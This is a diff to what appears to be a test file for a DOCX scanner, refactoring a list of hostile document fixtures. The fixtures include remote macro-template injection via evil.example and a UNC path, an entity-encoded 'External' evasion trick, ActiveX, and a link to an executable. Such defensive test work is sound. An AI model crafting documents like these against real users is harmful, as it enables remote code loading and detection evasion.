@@ -60,6 +60,7 @@ XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
 
 SETTINGS = "word/_rels/settings.xml.rels"
 TEMPLATE = rels("attachedTemplate", "http://evil.example/t.dotm")
+OTHERWISE = rels("attachedTemplate", "\\\\evil\\t", "TargetMode = '&#69;xternal'")
 UTF_16 = '<?xml version="1.0" encoding="UTF-16"?>'
 MACRO_TYPE = (
     '<Types><Default Extension="x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
@@ -77,7 +78,7 @@ HOSTILE = {
     "a package in a package in a package": base(**{"word/embeddings/a.xlsx": chart(**{"b.xlsx": chart()})}),
     "ActiveX": base(**{"word/activeX/activeX1.xml": "<a/>"}),
     "a template from elsewhere": base(**{SETTINGS: TEMPLATE}),
-    "a template, written otherwise": base(**{SETTINGS: rels("attachedTemplate", "\\\\evil\\t", "TargetMode = '&#69;xternal'")}),
+    "a template, written otherwise": base(**{SETTINGS: OTHERWISE}),
     "a template in UTF-16": base(**{SETTINGS: (UTF_16 + TEMPLATE).encode("utf-16")}),
     "a picture from elsewhere": base(**{"word/_rels/header1.xml.rels": rels("image", "https://evil.example/p.png")}),
     "a link to a program": base(**{"word/_rels/footer1.xml.rels": rels("hyperlink", "file:///C:/Windows/x.exe")}),
